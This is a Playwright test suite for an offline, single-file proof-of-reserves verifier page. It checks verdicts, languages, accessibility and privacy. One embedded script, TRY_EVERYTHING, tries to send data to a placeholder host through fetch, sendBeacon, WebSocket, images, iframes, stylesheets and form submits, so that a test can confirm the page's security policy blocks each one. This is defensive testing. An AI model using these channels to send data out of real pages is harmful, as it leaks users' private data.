"""The page of one file that verifies a proof: from a disk, without a network, as customers have it."""

import json
import re
from base64 import b64encode
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, Page, expect

from echt.proofs.browser import page as verifier
from tests.browser.accessibility import STILL, Examiner
from tests.browser.conftest import LOCALES, SIZES
from tests.browser.test_weight import BUTTONS, too_small
from tests.proofs.trees import OPERATOR
from tests.proofs.vector_cases import world

pytestmark = pytest.mark.browser

Open = Callable[..., Page]
STEPS = 7
DROP = """([file, name]) => {
  const carried = new DataTransfer();
  carried.items.add(new File([Uint8Array.from(atob(file), (letter) => letter.charCodeAt(0))], name));
  return carried;
}"""
TRY_EVERYTHING = """async () => {
  const stopped = [];
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => stopped.push(effectiveDirective));
  const elsewhere = "https://elsewhere.example/";
  const attempts = [
    () => fetch(elsewhere).catch(() => {}),
    () => navigator.sendBeacon(elsewhere, "x"),
    () => new WebSocket("wss://elsewhere.example/"),
    () => { new Image().src = elsewhere; },
    () => { document.body.append(Object.assign(document.createElement("iframe"), { src: elsewhere })); },
    () => { document.body.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: elsewhere })); },
    () => Object.assign(document.body.appendChild(document.createElement("form")), { action: elsewhere }).submit(),
    () => { document.body.innerHTML = "<p onclick=1>"; },
  ];
  for (const attempt of attempts) try { attempt(); } catch { /* stopped at once */ }
  await new Promise((done) => setTimeout(done, 300));
  return stopped;
}"""
STOPPED = {"connect-src", "img-src", "frame-src", "style-src-elem", "form-action", "require-trusted-types-for"}
REMEMBER_COPIES = """navigator.clipboard.writeText = async (text) => { window.copied = text; };"""


@pytest.fixture(scope="module")
def files(tmp_path_factory) -> dict[str, Path]:
    """What people may bring: the page itself, a proof, changed proofs, a statement, and other things."""
    the = world()
    proof = the.proof("10001")
    changed = json.loads(json.dumps(proof))
    changed["pieces"][0]["amounts"][0] = str(int(changed["pieces"][0]["amounts"][0]) + 1)
    made = {
        "verify.html": verifier.build(),
        "proof.json": json.dumps(proof),
        "changed.json": json.dumps(changed),
        "cut.json": json.dumps(proof)[:-9],
        "statement.note": the.note,
        "checkpoint": the.log()["checkpoint"],
        "mexc.json": json.dumps({"pathList": [], "self": {"balances": {}}}),
        "picture.png": "\x89PNG",
    }
    folder = tmp_path_factory.mktemp("verifier")
    for name, text in made.items():
        (folder / name).write_bytes(text.encode("latin-1" if name.endswith("png") else "utf-8"))
    return {name: folder / name for name in made}


@pytest.fixture(scope="module")
def root() -> str:
    return world().statement["root"]


@pytest.fixture
def open_page(browser: Browser, files: dict[str, Path]) -> Iterator[Open]:
    """The page from the disk: `open_page(size="narrow", language="de", theme="dark")`. It may ask for nothing, say nothing."""
    windows, asked, complaints = [], [], []

    def open_window(*, size: str = "wide", language: str = "en", theme: str = "light", **more: Any) -> Page:
        window = browser.new_context(
            locale=LOCALES[language], color_scheme=theme, offline=True, **SIZES[size], **STILL, **more
        )
        windows.append(window)
        window.add_init_script(REMEMBER_COPIES)
        page = window.new_page()
        page.set_default_timeout(15_000)
        page.on("request", lambda request: asked.append(request.url))
        page.on("console", lambda said: complaints.append(said.text))
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.goto(files["verify.html"].as_uri())
        return page

    yield open_window
    for window in windows:
        window.close()
    assert {url for url in asked if not url.startswith("data:")} <= {files["verify.html"].as_uri()}
    assert complaints == []


def choose(page: Page, file: Path, into: str = "proof") -> None:
    page.set_input_files(f"#{into}", file)


def enter(page: Page, field: str, text: str) -> None:
    page.fill(f"#{field}", text)
    page.press(f"#{field}", "Enter")


def verdict(page: Page) -> Locator:
    return page.locator("#verdict")


def words(page: Page) -> list[str]:
    return page.locator("#steps .word").all_text_contents()


def test_before_there_is_a_file_it_shows_what_will_be_checked(open_page):
    page = open_page()
    expect(page.locator("#steps li")).to_have_count(STEPS)
    assert words(page) == ["Waiting"] * STEPS
    expect(verdict(page)).to_be_hidden()
    expect(page.locator("#private")).to_contain_text("This file is private.")
    expect(page.locator("#private")).to_contain_text("It does not leave this page")


def test_a_file_alone_is_only_consistent_and_with_the_published_root_it_is_verified(open_page, files, root):
    page = open_page()
    choose(page, files["proof.json"])
    expect(verdict(page)).to_contain_text("Consistent, but not yet compared with anything published")
    assert words(page) == ["Holds", "Not checked", *["Holds"] * 5]
    expect(page.locator("#rest")).to_contain_text("enter it here")

    page.get_by_role("button", name="Add what was published").click()
    page.keyboard.type(root)
    page.keyboard.press("Enter")
    expect(verdict(page)).to_contain_text("Verified. Your balances are in the published total.")
    expect(verdict(page)).to_contain_text("against the root that you typed in")
    expect(page.locator("#told[role=status]")).to_contain_text("Verified. Your balances are in the published total.")
    assert words(page) == ["Holds"] * STEPS


def test_a_signed_statement_and_the_operators_key_verify_too(open_page, files):
    page = open_page()
    choose(page, files["proof.json"])
    choose(page, files["statement.note"], "statement")
    expect(page.locator("#statement-name")).to_have_text("statement.note")
    expect(verdict(page)).to_contain_text("Consistent")
    enter(page, "operator_key", OPERATOR.vkey)
    expect(verdict(page)).to_contain_text("against the signed statement that you chose")

    page.get_by_role("button", name="Remove statement.note").click()
    expect(verdict(page)).to_contain_text("Consistent")
    expect(page.locator("#statement")).to_be_focused()


def test_files_can_be_dropped_all_at_once_and_each_finds_its_place(open_page, files):
    page = open_page()
    for name in ("statement.note", "proof.json", "checkpoint"):
        drop(page, files[name])
    expect(page.locator("#proof-name")).to_have_text("proof.json")
    expect(page.locator("#statement-name")).to_have_text("statement.note")
    expect(page.locator("#older_checkpoint-name")).to_have_text("checkpoint")
    expect(verdict(page)).to_contain_text("Consistent")


def drop(page: Page, file: Path) -> None:
    content = page.evaluate_handle(DROP, [_base64(file), file.name])
    page.dispatch_event("#drop", "drop", {"dataTransfer": content})


def _base64(file: Path) -> str:
    return b64encode(file.read_bytes()).decode()


def test_amounts_have_all_decimals_and_look_as_the_reader_writes_them(open_page, files):
    page = open_page()
    choose(page, files["proof.json"])
    rows = page.locator("#rest table").first.locator("tbody tr")
    expect(rows).to_have_count(2)
    expect(rows.nth(0)).to_contain_text("1.50000000")
    expect(rows.nth(1)).to_contain_text("2,500.000000")
    page.locator("#rest summary").click()
    expect(page.locator("#rest details")).to_contain_text("BTC, owed by you")
    page.get_by_role("button", name="Deutsch").click()
    expect(rows.nth(1)).to_contain_text("2.500,000000")


def test_a_changed_file_fails_at_its_step_and_the_later_ones_are_not_looked_at(open_page, files, root):
    page = open_page()
    enter(page, "root", root)
    choose(page, files["changed.json"])
    expect(verdict(page)).to_contain_text("Not verified")
    expect(verdict(page)).to_contain_text("Code: path.root")
    assert words(page) == ["Holds"] * 3 + ["Does not hold"] + ["Not checked"] * 3
    expect(page.locator("#rest")).to_contain_text("What to do now")
    expect(page.locator("#rest table")).to_have_count(0)


def test_another_root_than_the_published_one_is_told(open_page, files):
    page = open_page()
    choose(page, files["proof.json"])
    enter(page, "root", "0" * 64)
    expect(verdict(page)).to_contain_text("Code: statement.root")
    expect(page.locator("#rest")).to_contain_text("this file says 2026-06-30")


@pytest.mark.parametrize(
    ("name", "told"),
    [
        ("picture.png", "Code: form.encoding"),
        ("cut.json", "Code: form.json"),
        ("mexc.json", "This looks like a proof file of MEXC"),
        ("statement.note", "your proof file is still missing"),
    ],
)
def test_a_wrong_file_is_told_what_it_is(open_page, files, name, told):
    page = open_page()
    choose(page, files[name])
    expect(verdict(page)).to_contain_text(told)
    choose(page, files["proof.json"])
    expect(verdict(page)).to_contain_text("Consistent")


def test_another_exchanges_file_is_for_the_tool(open_page, files):
    page = open_page(language="de")
    choose(page, files["mexc.json"])
    expect(verdict(page)).to_contain_text("python3 echt-verify.py")


@pytest.mark.parametrize("field", ["root", "operator_key"])
def test_what_is_entered_wrongly_is_told_beside_its_field(open_page, files, field):
    page = open_page()
    choose(page, files["proof.json"])
    enter(page, field, "nonsense")
    expect(verdict(page)).to_contain_text("What you compare with cannot be read")
    expect(page.locator(f"#{field}")).to_have_attribute("aria-invalid", "true")
    expect(page.locator(f"#{field}-error")).to_contain_text("Copy")
    enter(page, field, "")
    expect(page.locator(f"#{field}")).to_have_attribute("aria-invalid", "false")
    expect(verdict(page)).to_contain_text("Consistent")


def test_the_account_number_must_be_the_files(open_page, files):
    page = open_page()
    choose(page, files["proof.json"])
    page.get_by_text("More to compare").click()
    enter(page, "account", "10002")
    expect(verdict(page)).to_contain_text("Code: identity.account")
    enter(page, "account", "10001")
    expect(verdict(page)).to_contain_text("Consistent")


def test_what_is_copied_for_others_has_nothing_private_in_it(open_page, files, root):
    page = open_page()
    choose(page, files["changed.json"])
    page.get_by_role("button", name="Copy a report without private data").click()
    expect(page.get_by_role("button", name="Copied")).to_be_visible()
    copied = page.evaluate("window.copied")
    assert "path.root" in copied
    assert root in copied
    account = json.loads(files["changed.json"].read_text())["account"]
    assert [secret for secret in account.values() if secret in copied] == []


def test_the_language_is_the_readers_and_can_be_changed_at_any_time(open_page, files):
    page = open_page(language="de")
    choose(page, files["changed.json"])
    expect(page.locator("html")).to_have_attribute("lang", "de")
    expect(verdict(page)).to_contain_text("Nicht bestätigt")
    german = set(spoken(page))
    page.get_by_role("button", name="English").click()
    expect(page.locator("html")).to_have_attribute("lang", "en")
    expect(page.get_by_role("button", name="English")).to_have_attribute("aria-pressed", "true")
    expect(verdict(page)).to_contain_text("Not verified")
    same = {text for text in german & set(spoken(page)) if re.search(r"[a-zäöü]{3}", text)}
    assert same == {"Deutsch", "English", "Code: path.root", "changed.json", "Log", *facts_of(page)} & same


def spoken(page: Page) -> list[str]:
    return [line.strip() for line in page.locator("body").inner_text().splitlines() if line.strip()]


def facts_of(page: Page) -> list[str]:
    return page.locator("#rest dd").all_inner_texts()


def test_everything_can_be_done_with_the_keyboard(open_page, files, root):
    page = open_page()
    page.keyboard.press("Tab")
    expect(page.locator(".skip")).to_be_focused()
    for stop in ("button[value=de]", "button[value=en]", "#proof", "#root", "#statement", "#operator_key", "summary"):
        page.keyboard.press("Tab")
        expect(page.locator(stop)).to_be_focused()
    page.keyboard.press("Enter")
    for stop in ("#account", "#older_checkpoint", "button[type=submit]"):
        page.keyboard.press("Tab")
        expect(page.locator(stop)).to_be_focused()
    page.keyboard.press("Enter")
    expect(verdict(page)).to_contain_text("There is no proof file yet")
    choose(page, files["proof.json"])
    enter(page, "root", root)
    expect(verdict(page)).to_contain_text("Verified")


@pytest.mark.parametrize("language", ["de", "en"])
def test_no_look_of_it_has_a_fault(open_page, files, root, axe_script, language):
    examiner = Examiner(axe_script, language)
    page = open_page(language=language)
    page.locator("summary").first.click()
    assert examiner.faults_along(page, stops(page, files, root)) == {}


def stops(page: Page, files: dict[str, Path], root: str) -> Iterator[str]:
    yield "empty"
    choose(page, files["statement.note"])
    yield "a wrong file"
    choose(page, files["changed.json"])
    expect(page.locator("#steps .danger")).to_have_count(1)
    yield "not verified"
    choose(page, files["proof.json"])
    expect(page.locator("#verdict.warning")).to_be_visible()
    yield "consistent only"
    enter(page, "root", root)
    expect(page.locator("#verdict.success")).to_be_visible()
    yield "verified"
    enter(page, "root", "nonsense")
    expect(page.locator("#root[aria-invalid=true]")).to_be_visible()
    yield "entered wrongly"


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_on_a_phone_the_answer_comes_into_view_and_targets_can_be_hit(open_page, files, theme):
    page = open_page(size="narrow", language="de", theme=theme)
    choose(page, files["proof.json"])
    expect(page.locator("#verdict h3")).to_be_in_viewport()
    assert too_small(page, BUTTONS, 40) == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_a_fault_of_the_page_is_no_old_answer_beside_a_new_file(open_page, files, root):
    page = open_page()
    choose(page, files["proof.json"])
    enter(page, "root", root)
    expect(verdict(page)).to_contain_text("Verified.")
    page.evaluate("() => { crypto.subtle.digest = async () => { throw new Error('out of order'); }; }")
    choose(page, files["proof.json"])
    expect(verdict(page)).to_contain_text("The page could not finish")
    assert words(page) == ["Waiting"] * STEPS


def test_light_and_dark_follow_the_system(open_page):
    grounds = [ground(open_page(theme=theme)) for theme in ("light", "dark")]
    assert len(set(grounds)) == len(grounds)


def ground(page: Page) -> str:
    return page.evaluate("getComputedStyle(document.body).backgroundColor")


def test_nothing_can_leave_the_page_whatever_a_script_tries(browser, files):
    with browser.new_context(offline=True) as window:
        page = window.new_page()
        page.goto(files["verify.html"].as_uri())
        assert set(page.evaluate(TRY_EVERYTHING)) == STOPPED
